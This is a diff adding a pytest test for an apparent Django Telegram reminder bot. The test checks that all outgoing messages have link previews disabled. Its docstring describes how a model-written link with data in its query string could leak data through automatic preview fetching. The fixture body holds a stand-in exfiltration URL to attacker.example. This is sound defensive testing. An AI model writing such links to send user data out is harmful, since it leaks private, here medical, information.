@@ -203,3 +203,31 @@ def test_check_token_exits_zero_only_with_a_token():
     without = _manage("--check-token", env_extra={"TELEGRAM_BOT_TOKEN": ""})
     assert with_token.returncode == 0, with_token.stderr
     assert without.returncode == 1
+
+
+@pytest.mark.django_db(transaction=True)
+async def test_every_bot_message_goes_out_without_link_preview(make_user, user, telegram_server):
+    """With previews on, Telegram's servers fetch the first link of a message by themselves:
+    a link the model wrote (`…?d=<data>`) would carry data out without a click."""
+    from asgiref.sync import sync_to_async
+
+    owner = await sync_to_async(make_user)("tg@example.com", telegram_chat_id=CHAT)
+    pill = await Notification.objects.acreate(
+        user=owner, title="Take bisoprolol", channel="telegram",
+        body="See https://attacker.example/x?d=ferritin-12")
+    await sync_to_async(delivery.deliver_due)()  # the worker's path
+    [reminder] = telegram_server.shown(CHAT)
+    telegram_server.press_button(CHAT, {k: v for k, v in reminder.items() if k != "sent"},
+                                 f"done:{pill.pk}")
+    code = await sync_to_async(reminders.new_link_code)(user)
+    telegram_server.send_text(CHAT + 1, f"/start {code.code}")  # a reply of the bot
+
+    async def answered():
+        return bool(telegram_server.calls_to("editMessageText")) and len(
+            telegram_server.calls_to("sendMessage")) >= 2
+
+    await _run_bot(telegram_server, answered)
+    calls = telegram_server.calls_to("sendMessage") + telegram_server.calls_to("editMessageText")
+    assert len(calls) == 3
+    assert all(call["link_preview_options"] == {"is_disabled": True} for call in calls)
+    assert telegram_server.with_previews() == []
